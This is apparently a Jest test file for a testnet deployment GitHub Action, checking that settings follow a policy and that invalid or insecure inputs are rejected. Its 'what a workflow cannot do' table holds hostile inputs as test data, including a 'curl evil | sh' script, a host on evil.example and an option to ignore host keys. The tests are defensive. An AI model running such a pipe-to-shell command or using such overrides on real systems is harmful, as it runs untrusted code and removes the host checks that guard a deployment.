import { describe, expect, test } from '@jest/globals'
import { readSettings } from '../../../actions/testnet-deployer/src/settings.ts'
import { key, own, problemsOf, read, target } from './given.ts'

describe('settings', () => {
  test('come from the policy; a step needs only target and key', () => {
    const { inputs, hosts, watch: plan, environment, scriptFile } = read({})
    expect(hosts).toEqual([{ alias: 'alice', user: 'deploy', host: 'testnet-1.example', port: 22 }])
    expect(environment).toBe('testnet')
    expect(scriptFile).toEqual({ path: 'ops/testnet.sh', from: 'policy' })
    expect(plan).toMatchObject({
      target: 500n,
      stallAfterMs: 360_000,
      quorum: 1,
      from: 'baseline',
      timeBudgetMs: 5 * 3_600_000,
    })
    expect(inputs['on-host-failure']).toBe('stop')
  })

  test('come from the inputs where there is no policy, with the documented defaults', () => {
    const { watch: plan, scriptFile } = readSettings({
      given: new Map(Object.entries({ target: 'testnet', 'private-key': key, ...own })),
      target: undefined,
      where: '',
      withoutSecrets: undefined,
      withoutToken: false,
      agentSocket: undefined,
    })
    expect(plan).toMatchObject({ target: 500n, startTimeoutMs: 300_000 })
    expect(plan).not.toHaveProperty('stallAfterMs')
    expect(scriptFile).toBeUndefined()
  })

  test('fill what the policy leaves out', () => {
    expect(read({ 'poll-interval': '7s' }).watch?.pollIntervalMs).toBe(7_000)
  })

  test('the same value as the policy is no contradiction', () => {
    expect(read({ sessions: '500' }).watch?.target).toBe(500n)
  })
})

test('without a token a proof counts nowhere: to record nothing must be asked for', () => {
  const sources = {
    given: new Map(Object.entries({ target: 'testnet', 'private-key': key })),
    target: target(),
    where: 'policy targets.testnet',
    withoutSecrets: undefined,
    withoutToken: true,
    agentSocket: undefined,
  }
  expect(problemsOf(() => readSettings(sources)).join()).toMatch(/"token".*count nowhere/)
  sources.given.set('record', 'false')
  expect(problemsOf(() => readSettings(sources))).toEqual([])
})

test.each(['all', '2'])('quorum %s, as a policy may write it', (quorum) => {
  const hosts = ['alice=deploy@one.example', 'bob=deploy@two.example']
  const of = target({ deploy: { hosts }, watch: { quorum: quorum === 'all' ? quorum : Number(quorum) } })
  expect(read({}, of).watch?.quorum).toBe(2)
  expect(read({ quorum }, of).watch?.quorum).toBe(2)
})

describe('mode watch', () => {
  const asking = target({ deploy: { 'version-command': 'cat VERSION' } })

  test('is no way around the deployment that the policy demands', () => {
    expect(problemsOf(() => read({ mode: 'watch' })).join()).toMatch(/"mode".*leaves out the deployment/)
  })

  test('may follow a deployment where the policy has the service asked what it runs', () => {
    expect(read({ mode: 'watch' }, asking).inputs['version-command']).toBe('cat VERSION')
  })
})

describe('what a workflow cannot do', () => {
  test.each<[string, Record<string, string>, RegExp]>([
    ['lower the sessions', { sessions: '5' }, /sessions.*policy targets\.testnet/],
    ['lengthen the stall', { 'stall-after': '5h' }, /stall-after/],
    ['deploy elsewhere', { hosts: 'mallory=root@evil.example' }, /hosts/],
    ['run another script', { script: 'curl evil | sh' }, /"script".*script-file/],
    ['trust another key by the other input', { 'known-hosts': 'testnet-1.example ssh-ed25519 AAAA' }, /known-hosts/],
    ['trust any key', { 'insecure-ignore-host-key': 'true' }, /insecure-ignore-host-key.*pins/],
    ['use an environment without reviewers', { environment: 'sandbox' }, /"environment".*"testnet"/],
    ['count something easier', { counter: 'number' }, /counter/],
  ])('%s', (_what, inputs, message) => {
    expect(problemsOf(() => read(inputs)).join('\n')).toMatch(message)
  })
})

describe('mistakes', () => {
  const without = (...names: string[]) =>
    Object.fromEntries(Object.entries(own).filter(([name]) => !names.includes(name)))
  const noPolicy = (inputs: Record<string, string>, withoutSecrets?: string) =>
    problemsOf(() =>
      readSettings({
        given: new Map(Object.entries({ target: 'testnet', ...inputs })),
        target: undefined,
        where: '',
        withoutSecrets,
        withoutToken: false,
        agentSocket: undefined,
      }),
    ).join('\n')

  test('all of them are told together', () => {
    const told = noPolicy({ target: 'testnet' })
    for (const input of ['hosts', 'script', 'environment', 'counter', 'sources']) expect(told).toContain(`"${input}"`)
  })

  test.each<[string, Record<string, string>, RegExp]>([
    ['no host key at all', without('host-fingerprint'), /known-hosts.*which host keys are right/],
    ['an empty key', own, /private-key.*it is empty: the secret does not exist/],
    ['an agent that is not there', { ...own, 'use-agent': 'true' }, /use-agent.*SSH_AUTH_SOCK/],
    ['two scripts', { ...own, 'private-key': key, 'script-file': 'x.sh' }, /script and script-file.*both/],
    ['a larger quorum than sources', { ...own, 'private-key': key, quorum: '2' }, /quorum.*2 is more than the 1/],
    ['a name of our own', { ...own, 'private-key': key, env: 'SHAKEDOWN_COMMIT=x' }, /SHAKEDOWN_COMMIT/],
    [
      'a value that no program could be given',
      { ...own, 'private-key': key, env: `BIG=${'x'.repeat(200_000)}` },
      /BIG.*bytes/,
    ],
    ['a script with a NUL byte', { ...own, 'private-key': key, health: 'a\0b' }, /"health".*NUL/],
    ['two kinds of keys', { ...own, 'private-key': key, 'use-agent': 'true' }, /"private-key".*use-agent.*ignored/],
    [
      'a pin that would be ignored',
      { ...own, 'private-key': key, 'insecure-ignore-host-key': 'true' },
      /"host-fingerprint".*ignored/,
    ],
    ['something to watch, and no watch', { ...own, 'private-key': key, mode: 'deploy' }, /"counter".*no effect/],
    ['something to deploy, and no deployment', { ...own, 'private-key': key, mode: 'watch' }, /"script".*no effect/],
    ...['keepalive', 'poll-interval', 'time-budget', 'stall-after', 'connect-timeout'].map(
      (name): [string, Record<string, string>, RegExp] => [
        `${name} of no time`,
        { ...own, 'private-key': key, [name]: '0s' },
        new RegExp(`"${name}".*no time at all`),
      ],
    ),
    ['a quorum of nothing', { ...own, 'private-key': key, quorum: '0' }, /"quorum".*out of range/],
    ['a name twice', { ...own, 'private-key': key, env: 'A=1', secrets: 'A=2' }, /A is set by env, too/],
  ])('%s', (_what, inputs, message) => {
    expect(noPolicy(inputs)).toMatch(message)
  })

  test('a pull request from a fork is told why it has no key, and what to do', () => {
    const told = noPolicy(own, 'it is empty, because GitHub gives no secrets to a pull request from a fork')
    expect(told).toMatch(/from a fork\. Somebody with write access/)
  })

  test.each([
    ['secrets', { secrets: 'TOKEN=hunter2-hunter2\nnonsense-line-hunter2' }],
    ['private-key', { 'private-key': `${key.slice(0, 60)}oops` }],
  ])('a message about %s never quotes it', (input, change) => {
    const told = noPolicy({ ...own, ...change })
    expect(told).toContain(`"${input}"`)
    expect(told).not.toContain('hunter2')
    expect(told).not.toContain(key.slice(40, 60))
  })
})
